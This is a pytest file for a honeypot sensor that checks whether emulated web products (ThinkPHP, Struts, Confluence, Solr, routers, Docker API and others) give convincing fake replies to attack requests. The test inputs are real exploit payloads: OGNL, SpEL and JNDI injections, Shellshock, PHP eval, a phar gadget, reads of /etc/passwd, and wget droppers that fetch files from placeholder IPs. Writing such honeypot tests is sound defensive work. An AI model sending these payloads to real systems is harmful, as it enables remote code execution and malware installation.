"""Persona features beyond static answers, unit level: ``when:`` conditions, method-aware pattern
routes, exact paths and query-reading regexes, ``shell:`` replies through the emulated shell, the
PHP one-liner reader, ``{random_hex:N}``, ``status_line_version`` and ``keep_alive.mode``."""

from __future__ import annotations

import hashlib
import re
from pathlib import Path

import pytest

from honeyguard.errors import ContentError
from honeyguard.sensor.http.dynamic import MAX_COMMAND, MAX_OUTPUT, bounded_run, make_profile
from honeyguard.sensor.http.persona import ShellHost
from honeyguard.sensor.http.phpeval import call_output, php_output
from honeyguard.sensor.http.preview import Preview
from honeyguard.sensor.http.responder import Router, builtin_systems
from honeyguard.sensor.personas import BUILTIN_DIR, load_personas
from honeyguard.sensor.services.http import build_routers
from honeyguard.sensor.shell import Shell
from honeyguard.sensor.shell.facts import SystemFacts

THINK = "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]={fn}&vars[1][]={arg}"
PHPUNIT = "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php"
OGNL = ("%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)."
        "(#cmd='COMMAND').(#cmds={'/bin/bash','-c',#cmd}).(#p=new java.lang.ProcessBuilder(#cmds))}")


@pytest.fixture(scope="module")
def routers() -> dict[str, Router]:
    return build_routers(load_personas([BUILTIN_DIR], service="http"))


def persona(tmp_path: Path, text: str) -> Router:
    (tmp_path / "p.yaml").write_text("id: p\nservice: http\n" + text)
    return build_routers(load_personas([tmp_path]))["p"]


def body_of(answer: str) -> str:
    return answer.partition("\r\n\r\n")[2]


# -- when: ---------------------------------------------------------------------------------------

def test_struts_content_type_ognl_runs_the_command(routers: dict[str, Router]) -> None:
    preview = Preview()
    target = "/struts2-showcase/integration/saveGangster.action"
    plain = preview.answer(routers["struts-showcase"], "POST", target, [("Content-Type", "multipart/form-data")])
    assert "Struts2 Showcase" in plain or "showcase" in plain.lower()
    marker = "MARK" + "ER4242"
    answer = preview.answer(routers["struts-showcase"], "POST", target,
                            [("Content-Type", OGNL.replace("COMMAND", f"echo {marker}; id"))])
    assert body_of(answer) == f"{marker}\nuid=91(tomcat) gid=91(tomcat) groups=91(tomcat)\n"


def test_conditions_on_headers_query_and_body(tmp_path: Path) -> None:
    router = persona(tmp_path, """
routes:
  - prefix: /api
    when: [{header: X-Token, regex: '^[0-9a-f]{8}$'}]
    body: token
  - prefix: /api
    when: [{query: debug}]
    body: debug
  - prefix: /api
    when: [{body: true, contains: 'JNDI:'}, {header: User-Agent, negate: true}]
    body: jndi-no-agent
  - prefix: /api
    when: [{header: '*', contains: '${jndi'}]
    body: jndi-header
  - prefix: /api
    body: plain
""")
    preview = Preview()

    def answer(target: str, headers: list[tuple[str, str]] | None = None, body: bytes = b"") -> str:
        return body_of(preview.answer(router, "POST", target, headers, body))

    assert answer("/api", [("x-token", "deadbeef")]) == "token"
    assert answer("/api", [("X-Token", "nothex!!")]) == "plain"
    assert answer("/api/x?debug=") == "debug"
    assert answer("/api/x?nodebug=1") == "plain"
    assert answer("/api", body=b"${jndi:ldap://x}") == "jndi-no-agent"  # case-insensitive contains
    assert answer("/api", [("User-Agent", "curl")], b"${jndi:ldap://x}") == "plain"
    assert answer("/api", [("Referer", "%24%7Bjndi:ldap://x%7D")]) == "jndi-header"  # percent-decoded too


def test_condition_regex_input_is_bounded(tmp_path: Path) -> None:
    router = persona(tmp_path, """
routes:
  - prefix: /
    when: [{header: X-Big, contains: NEEDLE}]
    body: found
  - prefix: /
    body: not-found
""")
    preview = Preview()
    near = preview.answer(router, "GET", "/", [("X-Big", "a" * 1000 + "NEEDLE")])
    far = preview.answer(router, "GET", "/", [("X-Big", "a" * 100_000 + "NEEDLE")])
    assert body_of(near) == "found" and body_of(far) == "not-found"


def test_bad_condition_is_a_content_error(tmp_path: Path) -> None:
    with pytest.raises(ContentError):
        persona(tmp_path, "routes:\n  - prefix: /\n    when: [{header: A, query: b}]\n")
    with pytest.raises(ContentError):
        persona(tmp_path, "routes:\n  - prefix: /\n    when: [{body: true, regex: '('}]\n")


# -- method-aware patterns, exact paths and the query ---------------------------------------------

def test_tomcat_answers_get_and_put_of_a_jsp_differently(routers: dict[str, Router]) -> None:
    tomcat, preview = routers["tomcat"], Preview()
    assert preview.answer(tomcat, "PUT", "/shell.jsp/").startswith("HTTP/1.1 201 ")
    assert preview.answer(tomcat, "GET", "/shell.jsp").startswith("HTTP/1.1 404 ")
    assert preview.answer(tomcat, "DELETE", "/shell.jsp").startswith("HTTP/1.1 405 ")  # matched, no method


def test_pattern_with_other_method_lets_later_routes_try(tmp_path: Path) -> None:
    router = persona(tmp_path, """
routes:
  - {regex: '\\.jsp$', methods: [PUT], status: 201, body: put}
  - {prefix: /, methods: [GET], body: get}
""")
    preview = Preview()
    assert body_of(preview.answer(router, "PUT", "/a.jsp")) == "put"
    assert body_of(preview.answer(router, "GET", "/a.jsp")) == "get"
    assert preview.answer(router, "POST", "/a.jsp").startswith("HTTP/1.1 405 ")
    assert preview.answer(router, "POST", "/x").startswith("HTTP/1.1 405 ")


def test_exact_path_does_not_hide_a_regex_that_reads_the_query(tmp_path: Path) -> None:
    router = persona(tmp_path, """
routes:
  - {path: /index.php, body: front}
  - {regex: '^/index\\.php\\?s=', body: routed}
  - {regex: '^/index', body: never-before-exact}
""")
    preview = Preview()
    assert body_of(preview.answer(router, "GET", "/index.php")) == "front"
    assert body_of(preview.answer(router, "GET", "/index.php?page=2")) == "front"
    assert body_of(preview.answer(router, "GET", "/index.php?s=/a/b")) == "routed"


# -- shell: --------------------------------------------------------------------------------------

@pytest.mark.parametrize(("command", "expected"), [
    ("id", "uid=33(www-data) gid=33(www-data) groups=33(www-data)\n"),
    ("echo MARKER_a1b2", "MARKER_a1b2\n"),
    ("expr 7 \\* 7", "49\n"),
])
def test_thinkphp_runs_the_injected_command(routers: dict[str, Router], command: str, expected: str) -> None:
    from urllib.parse import quote
    answer = Preview().answer(routers["thinkphp"], "GET", THINK.format(fn="system", arg=quote(command)))
    assert body_of(answer) == expected


def test_value_appended_to_a_command_line(tmp_path: Path) -> None:
    router = persona(tmp_path, """
shell_host: {system: busybox-router, hostname: r, busybox: true}
routes:
  - {prefix: /plain, shell: {query: host}, body: "{shell}"}
  - {prefix: /ping, shell: {query: host, wrap: "ping -c 1 {}"}, body: "{shell}"}
""")
    preview = Preview()
    assert body_of(preview.answer(router, "GET", "/plain?host=;id")) == "uid=0(root) gid=0(root) groups=0(root)\n"
    pinged = body_of(preview.answer(router, "GET", "/ping?host=10.0.0.1;echo%20Z9"))
    assert pinged.startswith("PING 10.0.0.1 (10.0.0.1)") and pinged.endswith("\nZ9\n")


def test_thinkphp_files_and_md5_marker(routers: dict[str, Router]) -> None:
    preview = Preview()
    passwd = body_of(preview.answer(routers["thinkphp"], "GET", THINK.format(fn="system", arg="cat%20/etc/passwd")))
    assert passwd.startswith("root:x:0:0:root:/root:/bin/bash\n") and "www-data:x:33:33" in passwd
    marker = body_of(preview.answer(routers["thinkphp"], "GET", THINK.format(fn="md5", arg="HelloThinkPHP")))
    assert marker == hashlib.md5(b"HelloThinkPHP").hexdigest()


def test_wget_in_an_injected_command_is_a_download_not_a_fetch(routers: dict[str, Router]) -> None:
    preview = Preview()
    answer = preview.answer(routers["thinkphp"], "GET",
                            THINK.format(fn="system", arg="wget%20http://203.0.113.5/x86%20-O%20/tmp/.x;ls%20/tmp"))
    assert preview.downloads == [("http://203.0.113.5/x86", "wget", "wget http://203.0.113.5/x86 -O /tmp/.x")]
    assert ".x" in body_of(answer)  # the placeholder file is in this connection's fake filesystem


@pytest.mark.parametrize(("code", "expected"), [
    (b"<?php system('id'); ?>", "uid=33(www-data) gid=33(www-data) groups=33(www-data)\n"),
    (b"<?php echo md5(phpunit_rce);?>", "6dd70f16549456495373a337e6708865"),
    (b"<?php print(7*7);", "49"),
    (b"<?=\"MARK\".'ER'?>", "MARKER"),
    (b"<?php echo shell_exec('echo hi');", "hi\n"),
    (b"<?php eval($_POST['x']); file_put_contents('a', 'b');", ""),
])
def test_phpunit_eval_stdin_answers_as_php(routers: dict[str, Router], code: bytes, expected: str) -> None:
    assert body_of(Preview().answer(routers["phpunit"], "POST", PHPUNIT, body=code)) == expected


def test_php_reader_evaluates_nothing_else() -> None:
    ran: list[str] = []

    def shell(command: str) -> str:
        ran.append(command)
        return "out\n"
    assert php_output("<?php passthru(base64_decode('aWQ=')); echo `uname`;", shell) == "out\nout\n"
    assert ran == ["id", "uname"]
    assert php_output("<?php echo 7/2, 9/0, 99999999999999999*99999999999999999;", shell) == "3.51.0E+34"
    assert php_output("<?php echo " + "md5(" * 50 + "'x'" + ")" * 50 + ";", shell) == ""  # nesting capped
    assert php_output("<?php " + "system('x');" * 100, shell).count("out") == 32  # calls capped
    assert call_output("strrev", "abc", shell) == "cba"


def test_bigip_bash_and_confluence_header(routers: dict[str, Router]) -> None:
    import json
    preview = Preview()
    answer = preview.answer(routers["f5-bigip"], "POST", "/mgmt/tm/util/bash",
                            [("Content-Type", "application/json")],
                            json.dumps({"command": "run", "utilCmdArgs": "-c 'echo \"a b\"; whoami'"}).encode())
    assert json.loads(body_of(answer))["commandResult"] == "a b\nroot\n"
    target = "/%24%7B%40java.lang.Runtime%40getRuntime%28%29.exec%28%22echo%20X1%22%29%7D/"
    head = preview.answer(routers["confluence"], "GET", target).partition("\r\n\r\n")[0]
    assert "\r\nX-Cmd-Response: X1\r\n" in head + "\r\n"


def test_router_forms_show_the_output_on_the_next_page(routers: dict[str, Router]) -> None:
    preview, other = Preview(), Preview(client="198.51.100.9")
    realtek = routers["realtek-boa"]
    form = [("Content-Type", "application/x-www-form-urlencoded")]
    posted = preview.answer(realtek, "POST", "/boafrm/formSysCmd", form, b"sysCmd=echo+R3ALT3K&apply=Apply")
    assert posted.startswith("HTTP/1.1 302 ")
    assert "R3ALT3K" in preview.answer(realtek, "GET", "/syscmd.htm")
    assert "R3ALT3K" not in other.answer(realtek, "GET", "/syscmd.htm")  # another client sees its own
    assert "uid=0(root)" in other.answer(realtek, "GET", "/syscmd.htm")
    gpon = routers["gpon-router"]
    preview.answer(gpon, "POST", "/GponForm/diag_Form?images/", form, b"XWebPageName=diag&dest_host=;id&ipv=0")
    assert "uid=0(root)" in preview.answer(gpon, "GET", "/diag.html?images/")
    preview.answer(gpon, "POST", "/GponForm/diag_Form?images/", form, b"dest_host=8.8.8.8&ipv=0")
    assert "64 bytes from 8.8.8.8" in preview.answer(gpon, "GET", "/diag.html?images/")


def test_command_and_output_are_bounded() -> None:
    seen: list[str] = []
    profile = make_profile("x", ShellHost(), builtin_systems())
    assert profile is not None

    def runner(_profile: object, command: str) -> str:
        seen.append(command)
        return "y" * (MAX_OUTPUT * 3)
    output = bounded_run(runner, profile)("echo " + "x" * (MAX_COMMAND * 5))
    assert len(seen[0]) == MAX_COMMAND and len(output) == MAX_OUTPUT


def test_shell_reply_needs_known_system_facts(tmp_path: Path) -> None:
    with pytest.raises(ContentError, match=r"shell_host\.system"):
        persona(tmp_path, "shell_host: {system: nowhere}\nroutes:\n  - prefix: /\n    shell: {query: c}\n"
                          "    body: '{shell}'\n")


def test_expr_and_ping_in_the_shell() -> None:
    facts: SystemFacts = builtin_systems()["openssh-ubuntu-22.04"]
    shell = Shell(facts=facts, hostname="h")
    assert shell.run_line("expr 7 \\* 7; expr 10 / 3; expr 2 + x").output == "49\n3\nexpr: non-integer argument\n"
    assert shell.run_line("expr length abcd; expr 1 = 2").output == "4\n0\n"
    out = shell.run_line("ping -c 2 192.0.2.1").output
    assert out.startswith("PING 192.0.2.1 (192.0.2.1): 56 data bytes\n") and out.count("64 bytes from") == 2


# -- random values, status line, keep-alive -------------------------------------------------------

def test_random_hex_is_fresh_per_response(routers: dict[str, Router]) -> None:
    from honeyguard.clock import SeededEntropy
    from honeyguard.sensor.http.dynamic import render
    from honeyguard.sensor.http.shellhost import random_hex
    prepared = routers["docker-api"].find("POST", "/v1.41/containers/create", "/v1.41/containers/create")
    assert prepared.dynamic is not None
    make = random_hex(SeededEntropy(3))
    ids = set()
    for _ in range(3):
        _, body = render(prepared.dynamic, None, host="h", port=1, slots=(b"",) * 4, runner=lambda p, c: "",
                         random_hex=make)
        found = re.fullmatch(rb'\{"Id":"([0-9a-f]{64})","Warnings":\[\]\}\n', body)
        assert found is not None, body
        ids.add(found.group(1))
    assert len(ids) == 3


def test_status_line_echoes_http10_where_the_persona_says(routers: dict[str, Router]) -> None:
    preview = Preview()
    assert preview.answer(routers["docker-api"], "GET", "/_ping", version="HTTP/1.0").startswith("HTTP/1.0 200 OK")
    assert preview.answer(routers["docker-api"], "GET", "/_ping").startswith("HTTP/1.1 200 OK")
    assert preview.answer(routers["elasticsearch"], "GET", "/", version="HTTP/1.0").startswith("HTTP/1.0 200 OK")
    assert preview.answer(routers["apache-ubuntu"], "GET", "/", version="HTTP/1.0").startswith("HTTP/1.1 200 OK")


def test_keep_alive_mode_close_marks_every_answer(routers: dict[str, Router]) -> None:
    gpon = routers["gpon-router"]
    assert gpon.find("GET", "/login.html", "/login.html").close
    assert gpon.errors["not-found"].close
    assert not routers["apache-ubuntu"].find("GET", "/", "/").close


def test_events_name_the_product_a_path_was_handed_to(routers: dict[str, Router]) -> None:
    mix = routers["vulnerable-mix"]
    assert mix.find("GET", "/remote/login", "/remote/login").persona == "fortigate-sslvpn"
    assert mix.find("GET", "/", "/").persona == "apache-ubuntu"
    assert mix.errors["bad-request"].persona == "vulnerable-mix"


def test_ignition_phar_gadget_runs_and_shows_on_the_phar_step(routers: dict[str, Router]) -> None:
    import base64
    import json
    gadget = (b'O:29:"Monolog\\Handler\\BufferHandler":7:{s:9:"\x00*\x00buffer";a:1:{i:0;a:2:{i:0;s:13:"echo L4R4V3L";'
              b's:5:"level";N;}}s:13:"\x00*\x00processors";a:2:{i:0;s:7:"current";i:1;s:6:"system";}}')
    phar = b"<?php __HALT_COMPILER(); ?>\r\n" + b"\x00" * 9 + gadget + b"test.txt" + b"\x00" * 16
    encoded = "".join("=" + format(ord(c), "02X") + "=00" for c in base64.b64encode(phar).decode())
    preview = Preview()

    def solution(view_file: str) -> str:
        body = json.dumps({"solution": "Facade\\Ignition\\Solutions\\MakeViewVariableOptionalSolution",
                           "parameters": {"variableName": "x", "viewFile": view_file}}).encode()
        return preview.answer(routers["laravel"], "POST", "/_ignition/execute-solution",
                              [("Content-Type", "application/json")], body)
    assert solution("AA" + encoded).startswith("HTTP/1.1 500 ")
    answer = body_of(solution("phar://../storage/logs/laravel.log"))
    assert answer.startswith("L4R4V3L\n<!doctype html>")


@pytest.mark.parametrize(("pid", "method", "target", "headers", "body", "expected"), [
    ("sonicwall-sma", "GET", "/cgi-bin/jarrewrite.sh",
     [("User-Agent", "() { :; }; echo ; /bin/bash -c 'echo S0N1C'")], b"", "S0N1C\n"),
    ("ofbiz", "POST", "/webtools/control/ProgramExport/?USERNAME=&PASSWORD=&requirePasswordChange=Y",
     [("Content-Type", "application/x-www-form-urlencoded")],
     b"groovyProgram=throw+new+Exception%28%27echo+0FB1Z%27.execute%28%29.text%29%3B", "<pre>0FB1Z\n</pre>"),
    ("workspace-one", "GET", "/catalog-portal/ui/oauth/verify?error=&deviceUdid=%24%7b%22freemarker.template."
     "utility.Execute%22%3fnew%28%29%28%22echo%20%27<W1>%27%22%29%7d", None, b"", "device id: &lt;W1&gt;\n"),
    ("solr", "GET", "/solr/db/select?q=1&wt=velocity&v.template=custom&v.template.custom=%23set($x=%27%27)+"
     "%23set($ex=$rt.getRuntime().exec(%27echo%20V3L%27))", None, b"", "     0  V3L\n"),
    ("solr", "GET", "/solr/admin/cores?action=%24%7Bjndi%3Aldap%3A%2F%2F192.0.2.1%2Fa%7D", None, b"",
     '"msg":"Unsupported operation: ${jndi:ldap://192.0.2.1/a}"'),
    ("wordpress", "GET", "/wp-content/plugins/wp-file-manager/lib/files/x.php?cmd=whoami", None, b"", "www-data\n"),
    ("elasticsearch", "POST", "/_search", None,
     b'{"script_fields":{"exp":{"script":"java.lang.Math.class.forName(\\"java.lang.Runtime\\").getRuntime()'
     b'.exec(\\"echo E5\\").getText()"}}}', '"exp":["E5\\n"]'),
])
def test_more_products_answer_the_injected_command(routers: dict[str, Router], pid: str, method: str,
                                                   target: str, headers: list[tuple[str, str]] | None,
                                                   body: bytes, expected: str) -> None:
    assert expected in Preview().answer(routers[pid], method, target, headers, body)


@pytest.mark.parametrize(("pid", "target", "headers", "body", "url"), [
    ("spring-boot", "/functionRouter",
     [("spring.cloud.function.routing-expression", 'T(java.lang.Runtime).getRuntime().exec("wget http://192.0.2.8/s")')],
     b"x", "http://192.0.2.8/s"),
    ("huawei-hg532", "/ctrlt/DeviceUpgrade_1", None,
     b"<NewStatusURL>$(/bin/busybox wget http://192.0.2.9/h -O /tmp/h)</NewStatusURL>", "http://192.0.2.9/h"),
    ("realtek-miniigd", "/picsdesc.xml", None,
     b"<NewInternalClient>`cd /var; wget http://192.0.2.10/m`</NewInternalClient>", "http://192.0.2.10/m"),
    ("dlink-router", "/HNAP1/", [("SOAPAction", '"http://purenetworks.com/HNAP1/`wget http://192.0.2.11/d`"')],
     b"", "http://192.0.2.11/d"),
])
def test_droppers_in_blind_injections_are_downloads(routers: dict[str, Router], pid: str, target: str,
                                                    headers: list[tuple[str, str]] | None, body: bytes,
                                                    url: str) -> None:
    preview = Preview()
    answer = preview.answer(routers[pid], "POST", target, headers, body)
    assert not answer.startswith(("HTTP/1.1 404", "HTTP/1.1 405"))
    assert [d[0] for d in preview.downloads] == [url]


def test_docker_exec_start_streams_the_exec_command(routers: dict[str, Router]) -> None:
    preview = Preview()
    created = preview.answer(routers["docker-api"], "POST", "/v1.41/containers/e90e/exec",
                             [("Content-Type", "application/json")],
                             b'{"AttachStdout":true,"Cmd":["sh","-c","echo D0CK \'<b>\'; uname -m"]}')
    assert created.startswith("HTTP/1.1 201 ")
    started = preview.answer(routers["docker-api"], "POST", "/v1.41/exec/3b8f/start", body=b"{}")
    assert body_of(started) == "D0CK <b>\nmips\n"  # raw stream: nothing escaped


def test_mix_sends_ognl_content_types_on_any_action_to_struts(routers: dict[str, Router]) -> None:
    mix, preview = routers["vulnerable-mix"], Preview()
    ognl = [("Content-Type", OGNL.replace("COMMAND", "echo 0GNL"))]
    assert body_of(preview.answer(mix, "POST", "/orders/upload.action", ognl)) == "0GNL\n"
    assert mix.find("POST", "/orders/upload.action", "/orders/upload.action").persona != "struts-showcase"
    assert "7.4.11" in preview.answer(mix, "GET", "/login.action")  # Confluence keeps its own actions
